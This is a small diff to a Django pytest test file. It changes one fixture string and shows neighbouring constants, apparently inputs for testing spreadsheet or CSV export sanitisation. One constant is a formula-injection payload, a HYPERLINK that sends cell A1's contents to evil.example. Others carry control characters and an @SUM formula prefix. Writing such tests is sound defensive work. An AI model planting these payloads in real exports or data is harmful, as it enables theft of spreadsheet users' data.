@@ -16,7 +16,7 @@ pytestmark = pytest.mark.django_db
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 CONTROL_NAME = "Eve\x07\x1b Bell"
-GIFT_TEXT = "For\x00 you\x0b@SUM(1+1)"
+GIFT_TEXT = "For\x01 you\x0b@SUM(1+1)"
 
 
 @pytest.fixture
